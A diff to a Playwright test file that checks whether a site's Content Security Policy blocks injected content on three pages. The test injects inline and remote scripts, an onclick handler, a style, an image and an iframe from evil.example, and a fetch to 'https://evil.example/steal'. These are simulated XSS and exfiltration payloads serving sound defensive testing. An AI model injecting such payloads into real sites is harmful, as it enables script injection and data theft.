@@ -1,4 +1,4 @@
-import { expect, formPostOnly, test } from "./test";
+import { expect, test } from "./test";
 
 /** What the test below adds to a page, as the browser names it when it refuses it. */
 const violations = [
@@ -10,49 +10,37 @@ const violations = [
   "script-src-elem inline",
   "style-src-elem inline",
 ];
-const pages = ["/", "/nothing-here", "/edit/"];
 
-test.describe("what somebody else has put into a page", () => {
-  test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
+test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
 
-  for (const address of pages) {
-    test(`at ${address} does not run, show or call home`, async ({ page }) => {
-      // What the editor itself does is tested in edit.spec.ts.
-      await page.route("/edit/sveltia-cms.js", (route) => route.abort());
-      await page.goto(address);
-      await page.evaluate(() => {
-        const seen: string[] = [];
-        Object.assign(window, { seen });
-        addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
-          seen.push(`${effectiveDirective} ${blockedURI}`);
-        });
-        const add = (name: string, properties: object) =>
-          document.body.append(Object.assign(document.createElement(name), properties));
-        add("script", { textContent: "window.hacked = 'inline'" });
-        add("script", { src: "https://evil.example/x.js" });
-        add("style", { textContent: "body { display: none }" });
-        add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
-        add("img", { src: "https://evil.example/x.png" });
-        add("iframe", { src: "https://evil.example/" });
-        fetch("https://evil.example/steal").catch(() => {});
+for (const address of ["/", "/nothing-here", "/edit/"]) {
+  test(`what somebody else has put into ${address} does not run, show or call home`, async ({
+    page,
+  }) => {
+    // What the editor itself does is tested in edit.spec.ts.
+    await page.route("/edit/sveltia-cms.js", (route) => route.abort());
+    await page.goto(address);
+    await page.evaluate(() => {
+      const seen: string[] = [];
+      Object.assign(window, { seen });
+      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+        seen.push(`${effectiveDirective} ${blockedURI}`);
       });
-      const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
-      // The editor's scripts write style elements.
-      const allowed = address === "/edit/" ? "style-src-elem inline" : "";
-      await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
-      await page.getByText("press", { exact: true }).dispatchEvent("click");
-      expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+      const add = (name: string, properties: object) =>
+        document.body.append(Object.assign(document.createElement(name), properties));
+      add("script", { textContent: "window.hacked = 'inline'" });
+      add("script", { src: "https://evil.example/x.js" });
+      add("style", { textContent: "body { display: none }" });
+      add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
+      add("img", { src: "https://evil.example/x.png" });
+      add("iframe", { src: "https://evil.example/" });
+      fetch("https://evil.example/steal").catch(() => {});
     });
-  }
-
-  test("cannot show any of the pages in a frame", async ({ page, baseURL }) => {
-    const urls = pages.map((address) => new URL(address, baseURL).href);
-    // Somebody else's document, without a policy of its own that would stop a frame.
-    await page.goto(new URL("/robots.txt", formPostOnly).href);
-    await page.evaluate((urls) => {
-      document.body.innerHTML = urls.map((url) => `<iframe src="${url}"></iframe>`).join("");
-    }, urls);
-    const framed = () => page.frames().flatMap((frame) => (frame.parentFrame() ? frame.url() : []));
-    await expect.poll(framed).toEqual(urls.map(() => "chrome-error://chromewebdata/"));
+    const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
+    // The editor's scripts write style elements.
+    const allowed = address === "/edit/" ? "style-src-elem inline" : "";
+    await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
+    await page.getByText("press", { exact: true }).dispatchEvent("click");
+    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
   });
-});
+}
